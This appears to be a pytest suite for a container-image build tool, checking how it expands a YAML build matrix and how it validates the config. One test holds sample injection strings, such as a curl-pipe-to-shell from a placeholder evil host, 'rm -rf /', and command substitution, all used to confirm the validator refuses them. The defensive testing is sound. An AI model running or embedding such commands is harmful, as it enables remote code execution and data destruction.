"""Matrix expansion (GitHub Actions include/exclude semantics) and validation errors."""

from __future__ import annotations

import subprocess
import sys

import pytest

from imagefactory.config import matrix
from imagefactory.errors import ConfigError

BASE = """
image: registry.example.com/ml/train
matrix:
  python: ["3.10", "3.11"]
  cuda: ["none", "12.6"]
  blas: [mkl, openblas]
torch: "2.7.1"
"""


def ids(m):
    return sorted(c.id for c in m.cells)


def problems(write_matrix, text):
    with pytest.raises(ConfigError) as e:
        matrix.load(write_matrix(text))
    return e.value.problems


def test_product_of_axes_with_default_installer(write_matrix):
    m = matrix.load(write_matrix(BASE))
    assert len(m.cells) == 8
    assert "py3.10-cu12.6-mkl-conda" in ids(m)
    c = m.cell("py3.11-cpu-openblas-conda")
    assert (c.python, c.cuda, c.blas, c.installer, c.torch, c.threads) == ("3.11", None, "openblas", "conda", "2.7.1", 4)
    assert c.base_image == "debian:bookworm-slim"
    assert c.tags == ("registry.example.com/ml/train:2.7.1-py3.11-cpu-openblas",)


def test_exclude_is_a_partial_match(write_matrix):
    text = BASE.replace('blas: [mkl, openblas]', 'blas: [mkl, openblas]\n  exclude:\n    - {cuda: "12.6", blas: openblas}\n    - {python: "3.10", cuda: "12.6"}')
    m = matrix.load(write_matrix(text))
    assert ids(m) == sorted([
        "py3.10-cpu-mkl-conda", "py3.10-cpu-openblas-conda",
        "py3.11-cpu-mkl-conda", "py3.11-cpu-openblas-conda", "py3.11-cu12.6-mkl-conda",
    ])


def test_include_extends_matching_cells_and_adds_new_ones(write_matrix):
    text = BASE.replace('blas: [mkl, openblas]', '''blas: [mkl, openblas]
  include:
    - {cuda: "12.6", torch: "2.7.0", packages: [scipy]}
    - {python: "3.12", cuda: "none", blas: openblas, installer: pip, threads: 2}''')
    text = text.replace('torch: "2.7.1"', 'torch: "2.7.1"\npip: {torch_index_url: "https://download.pytorch.org/whl/{variant}"}')
    m = matrix.load(write_matrix(text))
    assert len(m.cells) == 9
    assert m.cell("py3.10-cu12.6-mkl-conda").torch == "2.7.0"
    assert m.cell("py3.10-cu12.6-mkl-conda").packages == ("scipy",)
    assert m.cell("py3.10-cpu-mkl-conda").torch == "2.7.1"
    new = m.cell("py3.12-cpu-openblas-pip")
    assert (new.threads, new.base_image) == (2, "python:3.12-slim-bookworm")
    assert new.tags == ("registry.example.com/ml/train:2.7.1-py3.12-cpu-openblas-pip",)


def test_include_never_overwrites_an_original_axis_value(write_matrix):
    # {python: 3.11, installer: pip} cannot extend the conda cells of 3.11 (installer would
    # change), so it matches none and, lacking cuda/blas, cannot be a new cell either.
    text = BASE.replace('blas: [mkl, openblas]', 'blas: [mkl, openblas]\n  include:\n    - {python: "3.11", installer: pip}')
    (p,) = problems(write_matrix, text)
    assert p.endswith("matrix.include[0]: matches no cell, and a new cell needs cuda, blas")
    assert ":7: " in p


def test_base_registry_prefixes_docker_hub_images_only(write_matrix):
    text = BASE + 'base_registry: 127.0.0.1:5000\nbase_images: {conda: "nvcr.io/nvidia/base:1"}\n'
    m = matrix.load(write_matrix(text))
    assert m.cells[0].base_image == "nvcr.io/nvidia/base:1"
    assert matrix.apply_base_registry("debian:bookworm-slim", "m.example.com/hub") == "m.example.com/hub/library/debian:bookworm-slim"
    assert matrix.apply_base_registry("nvidia/cuda:12.6.0-base", "m:5000") == "m:5000/nvidia/cuda:12.6.0-base"


@pytest.mark.parametrize("change, line, key, words", [
    ("threds: 4", 7, "threds", ["unknown key 'threds'", "did you mean 'threads'?", "allowed:"]),
    ("threads: four", 7, "threads", ["'four'", "auto"]),
    ("threads: 0", 7, "threads", ["out of range"]),
    ('numpy: "2.x"', 7, "numpy", ["malformed"]),
    ("conda: {distribution: anaconda}", 7, "conda.distribution", ["'anaconda' is not allowed (allowed: miniforge, miniconda)"]),
    ("conda: {distribution: miniconda}", 7, "conda", ["needs conda.version and conda.sha256"]),
    ('conda: {version: "24.1.0-0"}', 7, "conda.version", ["needs conda.sha256"]),
    ("ca_certificates: [certs/missing.pem]", 7, "ca_certificates[0]", ["file not found"]),
    ("pip: {wheelhouse: nowhere/}", 7, "pip.wheelhouse", ["directory not found"]),
    ("pip: {index_url: 'https://user:secret@mirror.example.com/simple'}", 7, "pip.index_url", ["credentials"]),
    ("tags: {template: '{image}:{nope}'}", 7, "tags.template", ["unknown field {nope}"]),
    ("tags: {template: '{image}:%s', extra: [date]}" % ("x" * 120), 7, "tags.extra", ["not a valid Docker reference"]),
    ("env: {OMP_NUM_THREADS: '64'}", 7, "env.OMP_NUM_THREADS", ["set by imagefactory (use threads)"]),
    ("tags: {template: '{image}:{torch}+{python}'}", 7, "tags.template", ["malformed"]),
    ("tags: {template: '{image}:.{torch}'}", 7, "tags.template", ["not a valid Docker reference"]),
])
def test_each_problem_names_file_line_and_key(write_matrix, change, line, key, words):
    (p,) = problems(write_matrix, BASE + change + "\n")
    assert p.startswith(f"{write_matrix('x').parent}/matrix.yaml:{line}: {key}: ") or f"matrix.yaml:{line}: {key}: " in p, p
    for w in words:
        assert w in p, p


def test_unquoted_version_read_as_float_gets_a_hint(write_matrix):
    (p,) = problems(write_matrix, BASE.replace('["3.10", "3.11"]', '[3.10, "3.11"]'))
    assert "matrix.yaml:3: matrix.python[0]:" in p and "quote it" in p and "3.1" in p


def test_yaml_syntax_error_has_its_line(write_matrix):
    (p,) = problems(write_matrix, BASE + "threads: [4\n")
    assert "matrix.yaml:" in p and "(yaml)" in p


def test_duplicate_key_is_reported(write_matrix):
    ps = problems(write_matrix, BASE + 'torch: "2.8.0"\n')
    assert any(":7: torch: key given twice" in p for p in ps)


def test_duplicate_axis_value_is_a_duplicate_cell(write_matrix):
    ps = problems(write_matrix, BASE.replace('["none", "12.6"]', '["none", "12.6", "none"]'))
    assert any(":4: matrix.cuda[2]: 'none' is listed twice" in p for p in ps)


def test_empty_matrix_after_exclude(write_matrix):
    text = BASE.replace('blas: [mkl, openblas]', 'blas: [mkl]\n  exclude:\n    - {blas: mkl}')
    (p,) = problems(write_matrix, text)
    assert "matrix.yaml:2: matrix: no cell is left after exclude" in p


def test_exclude_value_not_in_axis_is_a_typo(write_matrix):
    text = BASE.replace('blas: [mkl, openblas]', 'blas: [mkl, openblas]\n  exclude:\n    - {cuda: "12.9"}')
    (p,) = problems(write_matrix, text)
    assert ":7: matrix.exclude[0].cuda: '12.9' is not in matrix.cuda" in p


def test_pip_mkl_without_an_mkl_numpy_index_cannot_work(write_matrix):
    text = BASE.replace("blas: [mkl, openblas]", "blas: [mkl]\n  installer: [pip]")
    ps = problems(write_matrix, text)
    assert any("PyPI's NumPy is linked to OpenBLAS only" in p for p in ps)
    ok = text + "pip: {numpy_index_url: 'https://software.repos.intel.com/python/pypi'}\n"
    assert len(matrix.load(write_matrix(ok)).cells) == 4


def test_pypi_torch_cuda_must_match_its_default_build(write_matrix):
    text = BASE.replace("blas: [mkl, openblas]", "blas: [openblas]\n  installer: [pip]").replace('["none", "12.6"]', '["12.6", "13.0"]')
    text = text.replace('torch: "2.7.1"', 'torch: "2.13.0"') + "pip: {torch_index_url: null}\n"
    ps = problems(write_matrix, text)
    assert len(ps) == 2  # 3.10 and 3.11 at cu12.6; cu13.0 is PyPI's build for 2.13
    assert all("PyPI has no torch 2.13.0 build for CUDA 12.6" in p and "set pip.torch_index_url" in p for p in ps)


def test_every_problem_at_once(write_matrix):
    ps = problems(write_matrix, BASE + "threds: 4\nnumpy: bad\nlabels: {Bad Key: x}\n")
    assert len(ps) == 3
    assert [p.split(":")[1] for p in ps] == ["7", "8", "9"]


@pytest.mark.parametrize("change", [
    'torch: "2.7.1\\nRUN curl evil.example.com | sh"',
    'packages: ["numpy; rm -rf /"]',
    'packages: ["$(curl evil)"]',
    'env: {FOO: "x\\" && curl evil"}',
    'env: {"FOO BAR": "x"}',
    'env: {FOO: "$(id)"}',
    'labels: {a: "`id`"}',
    'base_images: {conda: "debian:12\\nRUN id"}',
    'base_images: {conda: "debian:12 AS x"}',
    "pip: {index_url: \"https://x.example.com/'; id; '\"}",
    "conda: {channels: ['conda-forge --override-channels']}",
    'user: {name: "root; id"}',
])
def test_injection_attempts_are_refused(write_matrix, change):
    text = BASE.replace('torch: "2.7.1"\n', "") + change + "\n"
    if not change.startswith("torch"):
        text += 'torch: "2.7.1"\n'
    assert problems(write_matrix, text)


def test_root_user_is_refused(write_matrix):
    (p,) = problems(write_matrix, BASE + "user: {uid: 0}\n")
    assert "user.uid" in p


def test_cli_reports_problems_with_exit_code_2_and_no_traceback(write_matrix, tmp_path):
    path = write_matrix(BASE + "threds: 4\n")
    out = tmp_path / "out"
    r = subprocess.run([sys.executable, "-m", "imagefactory", "render", "--matrix", str(path), "--out", str(out)],
                       capture_output=True, text=True)
    assert r.returncode == 2
    assert "Traceback" not in r.stderr
    assert r.stderr.strip().startswith("error: ") and "threds" in r.stderr
    assert not out.exists()


def test_cli_unknown_only_cell(write_matrix):
    path = write_matrix(BASE)
    r = subprocess.run([sys.executable, "-m", "imagefactory", "list", "--matrix", str(path), "--only", "py3.9-cpu-mkl-conda"],
                       capture_output=True, text=True)
    assert r.returncode == 2 and "--only py3.9-cpu-mkl-conda: no such cell" in r.stderr


def test_shipped_matrices_are_valid():
    from tests.conftest import REPO

    m = matrix.load(REPO / "matrix.yaml")
    assert {c.installer for c in m.cells} == {"conda"}
    assert {c.python for c in m.cells} == {"3.11", "3.12", "3.13"}
    assert {c.cuda for c in m.cells} == {None, "12.9", "13.0"}
    assert {c.blas for c in m.cells} == {"mkl", "openblas"}


# A conda cell of variant `pip` and an include entry adding a pip cell of no variant: under the default
# template both are ...-cpu-openblas-pip (the variant's suffix and the pip installer's read alike).
PIP_VARIANT = """
image: registry.example.com/ml/train
matrix:
  python: ["3.12"]
  cuda: ["none"]
  blas: [openblas]
  installer: [conda]
  variant: [pip]
  include:
    - {python: "3.12", cuda: "none", blas: openblas, installer: pip}
torch: "2.13.0"
"""


def test_two_cells_of_one_release_tag_are_named_in_one_located_line(write_matrix, tmp_path, monkeypatch, capsys):
    from tests.unit.helpers import run_cli

    path = write_matrix(PIP_VARIANT)
    monkeypatch.chdir(tmp_path)
    before = sorted(p.name for p in tmp_path.iterdir())
    code, out, err = run_cli(["list", "--matrix", str(path)], monkeypatch, capsys)
    assert code == 2 and out == ""
    (line,) = err.strip().splitlines()
    assert line.startswith(f"error: {path.name}:9: matrix.include[0]: "), line  # the entry that adds the second cell
    assert "cells py3.12-cpu-openblas-conda-pip and py3.12-cpu-openblas-pip would both be tagged" in line
    assert "'registry.example.com/ml/train:2.13.0-py3.12-cpu-openblas-pip'" in line
    assert "not in matrix.variant" not in line and "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # nothing written


def test_a_shared_tag_of_a_template_the_file_sets_points_at_the_template(write_matrix):
    (p,) = problems(write_matrix, PIP_VARIANT + 'tags: {template: "{image}:{python}-{accel}"}\n')
    assert ":11: tags.template: cells py3.12-cpu-openblas-conda-pip and py3.12-cpu-openblas-pip" in p
    assert "add a field such as {id} to tags.template" in p


def test_an_include_without_a_variant_adds_a_cell_of_no_variant(write_matrix):
    """Only a variant an include entry names must be listed under matrix.variant (a typo would add a
    cell); an entry that names none adds a cell of no variant, tagged apart from the others."""
    m = matrix.load(write_matrix(PIP_VARIANT.replace("variant: [pip]", "variant: [vision]")))
    assert ids(m) == ["py3.12-cpu-openblas-conda-vision", "py3.12-cpu-openblas-pip"]
    assert m.cell("py3.12-cpu-openblas-pip").variant == ""
    with pytest.raises(ConfigError) as e:
        matrix.load(write_matrix(PIP_VARIANT.replace("installer: pip}", "installer: pip, variant: visoin}")))
    assert "'visoin' is not in matrix.variant (pip)" in e.value.problems[0]
